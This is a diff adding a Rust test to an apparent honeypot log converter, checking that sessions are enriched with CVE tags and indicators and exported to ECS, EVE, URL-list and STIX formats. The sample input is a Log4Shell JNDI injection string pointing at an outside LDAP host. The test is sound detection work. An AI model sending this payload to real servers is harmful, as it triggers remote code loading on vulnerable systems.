@@ -228,3 +228,44 @@ fn peak_kb() -> u64 {
     let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).expect("a process with memory");
     line.trim().trim_end_matches(" kB").parse().expect("a number of kB")
 }
+
+#[test]
+fn what_a_record_means_is_added_in_every_format_and_exported() {
+    let directory = Directory::new("enrich");
+    let payload = b"GET /?x=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1\r\nHost: a\r\n\r\n";
+    let session = sample::of_payload(payload);
+    let mut line = Vec::new();
+    sample::sensor(Format::Flat).write(&session, usize::MAX, &mut line);
+    line.extend_from_slice(Format::Flat.tail().write(&mut [0; Tail::BYTES], 1));
+    let log = directory.file("log", &line);
+    let enrich = Enrich { enrich: true, ..Enrich::default() };
+    let convert = |to, name: &str, files: &[PathBuf]| {
+        let output = directory.0.join(name);
+        let request = Request {
+            to,
+            output: Some(output.clone()),
+            enrich: enrich.clone(),
+            max_line_bytes: 1 << 20,
+            files: files.to_vec(),
+        };
+        assert!(run(&request).expect("the output can be written").is_complete());
+        (output.clone(), fs::read_to_string(output).expect("it was written"))
+    };
+    let (flat, text) = convert(Target::Flat, "flat", std::slice::from_ref(&log));
+    let record: serde_json::Value = serde_json::from_str(&text).expect("JSON");
+    assert_eq!(record["enrichment"]["tags"][0]["cve"][0], "CVE-2021-44228");
+    assert_eq!(record["enrichment"]["indicators"][0]["value"], "ldap://198.51.100.9:1389/a");
+    // Added again, nothing is there twice.
+    assert_eq!(convert(Target::Flat, "again", &[flat]).1, text);
+    let (_, text) = convert(Target::Ecs, "ecs", std::slice::from_ref(&log));
+    let record: serde_json::Value = serde_json::from_str(&text).expect("JSON");
+    assert_eq!(record["vulnerability"]["id"], "CVE-2021-44228");
+    let (_, text) = convert(Target::Eve, "eve", std::slice::from_ref(&log));
+    let events: Vec<serde_json::Value> = text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
+    assert_eq!(events[0]["event_type"], "alert");
+    assert_eq!(events.last().expect("a flow")["flow"]["alerted"], true);
+    assert_eq!(convert(Target::Urls, "urls", std::slice::from_ref(&log)).1, "ldap://198.51.100.9:1389/a\n");
+    let bundle: serde_json::Value = serde_json::from_str(&convert(Target::Stix, "stix", &[log]).1).expect("JSON");
+    assert_eq!(bundle["type"], "bundle");
+    assert_eq!(bundle["objects"].as_array().expect("objects").len(), 3);
+}
